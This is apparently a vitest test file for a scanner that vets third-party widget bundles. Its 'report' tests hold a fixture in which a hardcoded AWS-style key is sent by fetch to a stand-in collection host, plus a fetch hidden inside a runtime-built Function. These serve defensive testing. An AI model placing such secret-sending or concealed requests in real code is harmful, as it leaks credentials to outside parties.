import { readFileSync } from "node:fs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Pipeline } from "../../src/contracts/index.js";
import { blockingRules, judgeText, startScanner } from "../support/scanner.js";

let pipeline: Pipeline;
beforeAll(async () => {
  pipeline = await startScanner();
});
afterAll(() => pipeline.close());

const library = (path: string): string => readFileSync(new URL(`../../node_modules/${path}`, import.meta.url), "utf8");

const workedExample = `
window.gro.onReady(function () {
  const root = document.getElementById("gro-widget-root");
  const entity = (window.gro.context.entities || [])[0];
  if (!entity) { root.textContent = "No profile on this subscription."; window.gro.resize(); return; }
  const was = entity.attributes && entity.attributes.weight;
  root.innerHTML = "<label>Weight (kg)</label>" + '<input id="w" type="number" step="0.1" value="' + (was ?? "") + '" /> ' + '<button id="save">Save</button> <span id="s"></span>';
  document.getElementById("save").addEventListener("click", function () {
    const now = Number(document.getElementById("w").value);
    const status = document.getElementById("s");
    status.textContent = "Saving…";
    const attributes = Object.assign({}, entity.attributes, { weight: now });
    window.gro.entity.update(entity.id, { attributes })
      .then(function () {
        return window.gro.activity.log({ action: "widget_weight_updated", description: "Weight updated for " + entity.name, changes: { weight: { from: was ?? null, to: now } } }).catch(function () {});
      })
      .then(function () { status.textContent = "Saved!"; })
      .catch(function (err) { status.textContent = err.message === "USER_CANCELLED" ? "Cancelled" : "Failed"; });
    window.gro.resize();
  });
  window.gro.resize();
});`;

describe("bundles that are fine", () => {
  it("publishes the worked example, having used it as a customer would", async () => {
    const report = await judgeText(pipeline, workedExample);
    expect(report).toMatchObject({ verdict: "publish", findings: [], bundle: { format: "script" } });
    expect(report.behaviour.map((event) => event.kind)).toEqual(
      expect.arrayContaining(["gro.onReady", "gro.entity.update", "gro.activity.log"]),
    );
    expect(report.behaviour.find((event) => event.kind === "gro.entity.update")?.target).toContain('"weight":13.1');
    expect(report.rules.skipped).toEqual([]);
    expect(report.rules.ran.length).toBe((await pipeline.rules()).length);
    expect(report.steps.map((step) => step.status)).toEqual(["passed", "passed", "passed", "passed", "passed"]);
  });

  it.each([
    "react/umd/react.production.min.js",
    "react-dom/umd/react-dom.production.min.js",
    "preact/dist/preact.min.js",
    "preact/dist/preact.umd.js",
    "vue/dist/vue.global.prod.js",
    "vue/dist/vue.runtime.global.prod.js",
    "lodash/lodash.min.js",
    "axios/dist/axios.min.js",
  ])("publishes %s", async (path) => {
    const report = await judgeText(pipeline, library(path));
    expect(blockingRules(report)).toEqual([]);
    expect(report.verdict).toBe("publish");
  });

  it.each([
    [
      "React",
      () =>
        `${library("react/umd/react.production.min.js")}\n${library("react-dom/umd/react-dom.production.min.js")}\nconst root = ReactDOM.createRoot(document.getElementById("gro-widget-root"));\nfunction App() { const [n, set] = React.useState(0); return React.createElement("button", { onClick: () => { set(n + 1); gro.activity.log({ action: "clicked_" + n }); } }, "Clicked " + n); }\nroot.render(React.createElement(App));`,
    ],
    [
      "Preact",
      () =>
        `${library("preact/dist/preact.min.js")}\npreact.render(preact.h("button", { onClick: () => gro.activity.log({ action: "clicked_0" }) }, "Go"), document.getElementById("gro-widget-root"));`,
    ],
    [
      "Vue",
      () =>
        `${library("vue/dist/vue.global.prod.js")}\nVue.createApp({ data: () => ({ n: 0 }), methods: { go() { this.n++; gro.activity.log({ action: "clicked_" + this.n }); } }, template: '<button @click="go">Clicked {{ n }}</button>' }).mount("#gro-widget-root");`,
    ],
  ])("draws, clicks and publishes a widget made with %s", async (_, bundle) => {
    const report = await judgeText(pipeline, bundle());
    expect(blockingRules(report)).toEqual([]);
    expect(report.behaviour.filter((event) => event.kind === "gro.activity.log").length).toBeGreaterThan(0);
    expect(report.verdict).toBe("publish");
  });

  it.each([
    ["a picture from the bundle", 'const i = new Image(); i.src = "data:image/png;base64,iVBORw0KGgo="; document.body.append(i)'],
    ["the community's logo", "const i = new Image(); i.src = gro.branding.logo_url; document.body.append(i)"],
    [
      "an uploaded photo",
      'const f = document.createElement("input"); f.type = "file"; f.onchange = async () => { const r = await gro.media.upload(f.files[0]); const i = new Image(); i.src = r.data.url; document.body.append(i) }; document.body.append(f)',
    ],
    [
      "a form of its own",
      'const f = document.createElement("form"); f.innerHTML = "<input name=q><button>Send</button>"; f.addEventListener("submit", (e) => { e.preventDefault(); gro.activity.log({ action: "s", metadata: { q: new FormData(f).get("q") } }) }); document.body.append(f)',
    ],
    ["keyboard shortcuts", 'document.addEventListener("keydown", (e) => { if (e.key === "Escape") document.title = "" })'],
    ["a clock", "setInterval(() => { document.title = new Date().toLocaleTimeString() }, 1000)"],
    ["a drawing", 'document.createElement("canvas").getContext("2d").fillRect(0, 0, 10, 10)'],
    ["an inline drawing", 'document.body.append(document.createElementNS("http://www.w3.org/2000/svg", "svg"))'],
    [
      "a file to keep",
      'const a = document.createElement("a"); a.href = URL.createObjectURL(new Blob(["a,b"])); a.download = "x.csv"; a.click()',
    ],
    ["a link for help", 'document.body.innerHTML = \'<a href="https://help.example.com" target="_blank">Help</a>\''],
    ["a module widget", 'export function init(sdk) { sdk.getContainer().innerHTML = "<p>Hello</p>" }'],
    [
      "labels and placeholders",
      'const labels = { password: "Password" }; const apiKey = "YOUR_API_KEY"; const id = "3f2b8c1e-7a64-4d09-9b51-0c6e2f8a7d43"',
    ],
    ["encoded text", 'document.body.textContent = atob("aGVsbG8gd29ybGQ=")'],
    ["a step in storage", 'try { localStorage.setItem("step", "2") } catch {}'],
  ])("publishes a widget with %s", async (_, text) => {
    const report = await judgeText(pipeline, text);
    expect(blockingRules(report)).toEqual([]);
    expect(report.verdict).toBe("publish");
  });
});

describe("a report", () => {
  const mixed =
    'const k = "AKIAQ7XW3NV5KZJT2DHB";\nfetch("https://collect.example/?k=" + k);\nsetTimeout(() => { document.title = Math.random() + " " + Date.now() }, 5);';

  it("is the same ten times over", async () => {
    const reports = await Promise.all(Array.from({ length: 10 }, () => judgeText(pipeline, mixed)));
    const facts = reports.map(({ verdict, findings, behaviour }) => JSON.stringify({ verdict, findings, behaviour }));
    expect(new Set(facts).size).toBe(1);
  });

  it("never shows a secret, neither in an excerpt nor in what the bundle did", async () => {
    const report = await judgeText(pipeline, mixed);
    expect(blockingRules(report)).toEqual(
      expect.arrayContaining(["credentials/known-key", "network/outside-request", "network/tried-at-run-time"]),
    );
    expect(JSON.stringify(report)).not.toContain("AKIAQ7XW3NV5KZJT2DHB");
  });

  it("names the place of each finding in the file", async () => {
    const report = await judgeText(pipeline, `// first line\n${mixed}`);
    const finding = report.findings.find(({ ruleId }) => ruleId === "network/outside-request");
    expect(finding?.place).toMatchObject({ file: "widget.js", line: 3, column: 0 });
    expect(finding?.fingerprint).toMatch(/^[\da-f]{32}$/);
  });

  it("keeps a finding's fingerprint when its line moves", async () => {
    const [one, two] = await Promise.all([
      judgeText(pipeline, 'fetch("https://a.example")'),
      judgeText(pipeline, '\n\n  fetch("https://a.example")'),
    ]);
    expect(one.findings[0]?.fingerprint).toBe(two.findings[0]?.fingerprint);
  });

  it("holds at most 200 findings and excerpts of 200 characters without invisible characters", async () => {
    const report = await judgeText(
      pipeline,
      Array.from({ length: 900 }, (_, index) => `fetch("https://h${index}.example/\u0007\u202e");`).join(" "),
    );
    expect(report.findings.length).toBeLessThanOrEqual(200);
    for (const { excerpt, message } of report.findings) {
      expect(excerpt?.text.length ?? 0).toBeLessThanOrEqual(200);
      expect(`${excerpt?.text ?? ""}${message}`).not.toMatch(/[\u0000-\u001f\u202a-\u202e]/);
    }
  });

  it("judges code that is made at run time like the file itself", async () => {
    const report = await judgeText(pipeline, "const part = 'https://' + 'late' + '.example'; new Function('fetch(\"' + part + '\")')()");
    expect(report.findings.some(({ ruleId, place }) => ruleId === "network/outside-request" && place?.file.includes("→"))).toBe(true);
  });
});
